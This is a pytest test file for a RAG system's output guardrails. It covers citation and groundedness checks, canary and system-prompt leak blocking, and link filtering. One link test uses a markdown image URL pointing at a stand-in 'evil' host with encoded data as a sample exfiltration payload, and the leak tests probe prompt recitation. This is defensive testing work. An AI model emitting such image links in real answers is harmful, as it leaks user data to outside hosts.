import asyncio
from dataclasses import replace
from pathlib import Path

import pytest

import guardrails.output_checks
from guardrails.leaks import Leaks
from guardrails.output import OutputRails
from guardrails.output_checks import LeakCheck
from guardrails.policy import OutputPolicy, Policy
from rag.prompt import load_templates
from rag.release import SentenceSettings
from rag.types import Check, Hit, Passage, RequestSettings, Verdict

SETTINGS = RequestSettings(model="demo", prompt="quote")
HITS = [
    Hit(Passage("a", "doc", "Replicas scale on ongoing requests, at most 8 each.", title="Scaling"), 1.0),
    Hit(Passage("b", "doc", "The guard runs beside retrieval.", headings=("Guard",)), 0.5),
]


def by(**checks: object) -> RequestSettings:
    """Settings whose policy changes these output checks."""
    return replace(SETTINGS, policy=Policy().changed({"output": checks}).text)


CANARY = by(leaks={"canaries": ["RAGLAN-CANARY-1"]})


@pytest.fixture(scope="module")
def rails() -> OutputRails:
    rails = OutputRails()
    rails.load()
    return rails


async def validate(
    rails: OutputRails, sentence: str, hits: list[Hit] = HITS, settings: RequestSettings = SETTINGS
) -> dict[str, Check]:
    verdict = await rails.validate(sentence, hits, "How do replicas scale?", settings)
    assert verdict.allowed == (not any(c.action in {"block", "error"} for c in verdict.checks))
    return {c.name: c for c in verdict.checks}


async def test_a_supported_sentence_passes_every_check(rails: OutputRails) -> None:
    checks = await validate(rails, "Replicas scale on ongoing requests. [1] ")
    assert list(checks) == ["characters", "leaks", "links", "citations", "groundedness"]
    assert {c.action for c in checks.values()} == {"pass"}
    assert checks["groundedness"].score == 1.0
    assert checks["citations"].score == 1.0


async def test_a_citation_without_a_passage_is_flagged_or_blocked(rails: OutputRails) -> None:
    checks = await validate(rails, "Replicas scale on ongoing requests. [1][7]")
    assert (checks["citations"].action, checks["citations"].detail, checks["citations"].score) == ("flag", "[7]", 0.5)
    for marker in ("[0]", "[1, 9]", "[1;9]", "[2-7]", "[1–3]", "【9】", "[1-999]"):
        checks = await validate(rails, f"Replicas scale. {marker}", settings=by(citations={"action": "block"}))
        assert checks["citations"].action == "block"


@pytest.mark.parametrize(
    "text", ["Replicas scale. [1, 2] [1-2] 【2】", "It is in [0, 1].", '{"n": [7, 9]}', "n = [7, 9]"]
)
async def test_what_cites_nothing_wrong_passes(rails: OutputRails, text: str) -> None:
    assert (await validate(rails, text))["citations"].action == "pass"


async def test_an_index_in_code_is_no_citation(rails: OutputRails) -> None:
    assert (await validate(rails, "Take the first with `hits[99]`."))["citations"].action == "pass"


async def test_an_unsupported_sentence_is_flagged_against_the_passages_it_cites(rails: OutputRails) -> None:
    assert (await validate(rails, "Replicas scale on ongoing requests. [2]"))["groundedness"].action == "flag"
    assert (await validate(rails, "Replicas scale on ongoing requests. [9]"))["groundedness"].action == "pass"
    wrong = await validate(rails, "Replicas scale on ongoing requests, at most 9 new ones each. [1]")
    assert wrong["groundedness"].detail == "number"


async def test_titles_and_headings_support_a_sentence(rails: OutputRails) -> None:
    assert (await validate(rails, "Scaling: replicas scale on requests. [1]"))["groundedness"].score == 1.0


async def test_without_passages_there_is_no_groundedness(rails: OutputRails) -> None:
    checks = await validate(rails, "Replicas scale on ongoing requests. [1]", [])
    assert (checks["groundedness"].action, checks["groundedness"].detail) == ("skipped", "nothing to judge")
    assert checks["citations"].action == "flag"


async def test_a_canary_ends_the_answer(rails: OutputRails) -> None:
    verdict = await rails.validate("My prompt has raglan-canary-1.", HITS, "?", CANARY)
    assert not verdict.allowed
    assert verdict.refusal == OutputPolicy().refusal
    assert [c.detail for c in verdict.checks if c.action == "block"] == ["canary"]


TEMPLATES = load_templates(Path(__file__).parents[2] / "prompts")
PROMPTS = [text for template in TEMPLATES.values() for text in template.texts]


@pytest.fixture(scope="module")
def prompted() -> OutputRails:
    rails = OutputRails(prompts=PROMPTS)
    rails.load()
    return rails


async def test_the_prompt_in_use_is_not_recited(prompted: OutputRails) -> None:
    told = "Sure: You answer questions from the numbered passages below, and from nothing else."
    checks = await validate(prompted, told)
    assert (checks["leaks"].action, checks["leaks"].detail) == ("block", "protected text")
    assert (await validate(prompted, told, settings=by(leaks={"prompts": False})))["leaks"].action == "pass"
    quoted = [Hit(Passage("p", "doc", f"The prompt reads: {told}"), 1.0)]
    assert (await validate(prompted, told, quoted))["leaks"].action == "pass"
    own = by(leaks={"protected": ["The orchid blooms at night under seven lamps of brass."]})
    for text in (told, "The orchid blooms at night under seven lamps."):
        assert (await validate(prompted, text, settings=own))["leaks"].action == "block"


ORDERS = "You are the clerk of a shop. Returns are taken within thirty days. " + " ".join(
    f"rule{n}x" for n in range(20)
)


@pytest.mark.parametrize(
    ("sentence", "before", "action"),
    [
        ("You answer questions from the numbered passages below.", "", "block"),
        ("from the numbered passages below, and", "Here it is: You answer questions ", "block"),
        (ORDERS, "", "block"),
        (ORDERS[60:], ORDERS[:60], "block"),
        ("Returns are taken within thirty days.", "You are the clerk of a shop. ", "pass"),
    ],
)
async def test_a_leak_may_begin_before_its_sentence_and_be_the_callers_orders(
    prompted: OutputRails, sentence: str, before: str, action: str
) -> None:
    asked = by(leaks={"system_messages": True}).policy
    settings = SentenceSettings("demo", "quote", before=before, orders=ORDERS, policy=asked)
    assert (await validate(prompted, sentence, settings=settings))["leaks"].action == action
    off = replace(settings, policy=by(leaks={"prompts": False}).policy)
    assert (await validate(prompted, sentence, settings=off))["leaks"].action == "pass"


@pytest.mark.parametrize(
    ("sentence", "action", "detail"),
    [
        ("See [this page](https://docs.invalid/scaling) of it.", "pass", ""),
        ("![x](https://evil.invalid/p.png?d=aGk)", "block", "image, link"),
        ("tps://evil.invalid/p.png)", "block", "image, link"),
        ("See https://other.invalid/ for more.", "flag", "link"),
    ],
)
async def test_an_address_from_nowhere_does_not_leave(
    rails: OutputRails, sentence: str, action: str, detail: str
) -> None:
    hits = [Hit(Passage("a", "d", "Replicas.", url="https://docs.invalid/scaling"), 1.0)]
    settings = SentenceSettings("demo", "quote", before="![x](ht" if sentence.startswith("tps") else "")
    found = (await validate(rails, sentence, hits, settings))["links"]
    assert (found.action, found.detail) == (action, detail)


def test_the_handbook_can_be_quoted() -> None:
    leaks = Leaks([], PROMPTS, LeakCheck().words)
    pages = {path.name: path.read_text() for path in (Path(__file__).parents[2] / "docs").glob("*.md")}
    lines = [(name, line) for name, page in pages.items() for line in page.splitlines()]
    alone = {name for name, line in lines if leaks.find(line, [])}
    assert alone == {"prompts.md"}  # which tells what a template says
    assert [line for name, line in lines if leaks.find(line, [pages[name]])] == []


@pytest.mark.parametrize(("text", "action"), [("a \ud800 b", "block"), ("a \x1b[31m b", "flag"), ("a\tb\n", "pass")])
async def test_text_that_cannot_be_sent_is_refused(rails: OutputRails, text: str, action: str) -> None:
    assert (await validate(rails, text))["characters"].action == action


async def test_a_broken_check_refuses(rails: OutputRails, monkeypatch: pytest.MonkeyPatch) -> None:
    def broken(text: str) -> list[int]:
        raise IndexError

    monkeypatch.setattr(guardrails.output_checks, "cited", broken)
    assert (await rails.validate("Anything. [1]", HITS, "?", SETTINGS)).allowed
    verdict = await rails.validate("Anything. [1]", HITS, "?", by(citations={"on_error": "closed"}))
    assert not verdict.allowed
    assert verdict.refusal == OutputPolicy().unchecked
    assert {c.name for c in verdict.checks if c.action == "error"} == {"citations", "groundedness"}


OFF = {name: {"action": "off"} for name in ("leaks", "links", "citations", "groundedness")}


async def test_checks_can_be_switched_off(rails: OutputRails) -> None:
    some = by(characters={"action": "flag"}, **OFF)
    assert list(await validate(rails, "Anything \ud800 [9]", settings=some)) == ["characters"]
    none = by(characters={"action": "off"}, **OFF)
    assert list(await validate(rails, "Anything", settings=none)) == []


async def test_parallel_sentences_get_their_own_verdicts(rails: OutputRails) -> None:
    sentences = ["RAGLAN-CANARY-1" if n % 2 else f"Sentence number {n}." for n in range(20)]
    verdicts: list[Verdict] = await asyncio.gather(*(rails.validate(s, HITS, "?", CANARY) for s in sentences))
    assert [v.allowed for v in verdicts] == [n % 2 == 0 for n in range(20)]


async def test_a_whole_answer_is_judged_by_the_schema_that_was_asked_for(rails: OutputRails) -> None:
    settings = replace(SETTINGS, schema='{"type": "object", "required": ["a"]}')
    right, cut = [await rails.conforms(text, settings) for text in ('{"a": 1}', '{"a": ')]
    assert [(c.name, c.action, c.score) for c in right.checks] == [("json_schema", "pass", 1.0)]
    assert [(c.name, c.action, c.detail) for c in cut.checks] == [("json_schema", "flag", "not JSON, at character 6")]
    assert cut.allowed


async def test_a_held_answer_is_refused_where_the_schema_blocks(rails: OutputRails) -> None:
    settings = replace(by(json_schema={"action": "block"}), schema='{"required": ["a"]}')
    verdict = await rails.validate("{}", [], "?", settings)
    assert (verdict.allowed, verdict.refusal) == (False, OutputPolicy().refusal)
    assert (await rails.validate('{"a": 1}', [], "?", settings)).allowed
